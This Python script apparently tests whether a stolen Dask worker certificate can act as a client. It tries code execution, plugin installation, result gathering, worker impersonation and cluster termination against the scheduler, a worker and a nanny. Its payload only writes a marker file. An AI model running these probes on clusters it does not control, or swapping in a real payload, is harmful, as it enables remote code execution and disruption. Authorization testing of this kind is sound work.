"""The holder of a worker's key acts as a client (issue 34, attack 2).

``python worker_key_client.py SCHEDULER CA CERT KEY MARKER VICTIM_WORKER VICTIM_NANNY`` connects
with one worker's certificate and tries, one by one, every operation that would run code,
install code, read results or take workers away: as a client of the scheduler, and directly on
another worker and its nanny. Every payload creates the file MARKER in whatever process runs it.
Prints one JSON object: operation -> "accepted: ..." or "refused: ..." (the error it got).
"""

from __future__ import annotations

import asyncio
import json
import sys
from pathlib import Path
from typing import Any

from distributed import Client
from distributed.core import connect, send_recv
from distributed.diagnostics.plugin import NannyPlugin, SchedulerPlugin, WorkerPlugin
from distributed.protocol.pickle import dumps
from distributed.security import Security

SCHEDULER, CA, CERT, KEY, MARKER, WORKER, NANNY = sys.argv[1:8]


def payload(*args: Any, **kwargs: Any) -> str:
    """Leaves a trace where it runs (and would rig matches or copy deal seeds from there)."""
    Path(MARKER).write_text("ran")
    return "ran"


class Installed(WorkerPlugin, SchedulerPlugin, NannyPlugin):
    """A plugin whose set-up leaves the same trace on every process it reaches."""

    name = "rigged"

    def setup(self, *args: Any, **kwargs: Any) -> None:
        payload()

    async def start(self, *args: Any, **kwargs: Any) -> None:
        payload()


def run_msg() -> dict[str, Any]:
    return {"op": "run", "function": dumps(payload), "args": dumps(()), "kwargs": dumps({})}


ATTEMPTS: dict[str, tuple[str, dict[str, Any]]] = {
    # at the scheduler, as a client would
    "scheduler: run_function": ("S", {**run_msg(), "op": "run_function"}),
    "scheduler: broadcast run to workers": ("S", {"op": "broadcast", "msg": run_msg()}),
    "scheduler: broadcast run to nannies": (
        "S",
        {"op": "broadcast", "msg": run_msg(), "nanny": True},
    ),
    "scheduler: register_worker_plugin": (
        "S",
        {"op": "register_worker_plugin", "plugin": dumps(Installed()), "name": "rigged"},
    ),
    "scheduler: register_scheduler_plugin": (
        "S",
        {"op": "register_scheduler_plugin", "plugin": dumps(Installed()), "name": "rigged"},
    ),
    "scheduler: register_nanny_plugin": (
        "S",
        {"op": "register_nanny_plugin", "plugin": dumps(Installed()), "name": "rigged"},
    ),
    "scheduler: proxy run to a worker": (
        "S",
        {"op": "proxy", "msg": run_msg(), "worker": WORKER},
    ),
    "scheduler: gather results": ("S", {"op": "gather", "keys": ["any"]}),
    "scheduler: read events": ("S", {"op": "events", "topic": "forward-logging"}),
    "scheduler: connection_stream": ("S", {"op": "connection_stream"}),
    "scheduler: unregister another worker": (
        "S",
        {"op": "unregister", "address": WORKER, "stimulus_id": "attack"},
    ),
    "scheduler: register under another worker's name": (
        "S",
        {"op": "register-worker", "address": "tls://127.0.0.1:9", "name": "w2"},
    ),
    "scheduler: retire workers": ("S", {"op": "retire_workers", "n": 2}),
    "scheduler: restart": ("S", {"op": "restart"}),
    "scheduler: terminate": ("S", {"op": "terminate"}),
    # directly on another worker and its nanny
    "worker: run": ("W", run_msg()),
    "worker: plugin-add": ("W", {"op": "plugin-add", "plugin": dumps(Installed()), "name": "r"}),
    "worker: get_data": ("W", {"op": "get_data", "keys": ["any"]}),
    "worker: terminate": ("W", {"op": "terminate"}),
    "nanny: run": ("N", run_msg()),
    "nanny: plugin_add": ("N", {"op": "plugin_add", "plugin": dumps(Installed()), "name": "r"}),
    "nanny: kill": ("N", {"op": "kill"}),
}


async def attempt(security: Security, address: str, msg: dict[str, Any]) -> str:
    try:
        comm = await connect(address, **security.get_connection_args("worker"))
        try:
            answer = await asyncio.wait_for(send_recv(comm, **msg), 10)
        finally:
            comm.abort()
    except Exception as e:  # noqa: BLE001 - the outcome is the answer
        return f"refused: {type(e).__name__}: {e}"
    return f"accepted: {str(answer)[:200]}"


async def main() -> None:
    security = Security(
        tls_ca_file=CA, tls_worker_cert=CERT, tls_worker_key=KEY, require_encryption=True
    )
    targets = {"S": SCHEDULER, "W": WORKER, "N": NANNY}
    out = {}
    for what, (where, msg) in ATTEMPTS.items():
        out[what] = await attempt(security, targets[where], dict(msg))
    # A whole client session (submit a task), with the worker's key as the client's.
    client_sec = Security(
        tls_ca_file=CA, tls_client_cert=CERT, tls_client_key=KEY, require_encryption=True
    )
    try:
        async with Client(SCHEDULER, security=client_sec, asynchronous=True, timeout=10) as c:
            out["scheduler: submit a task"] = f"accepted: {await c.submit(payload)}"
    except Exception as e:  # noqa: BLE001
        out["scheduler: submit a task"] = f"refused: {type(e).__name__}: {e}"
    print(json.dumps(out))


if __name__ == "__main__":
    asyncio.run(main())
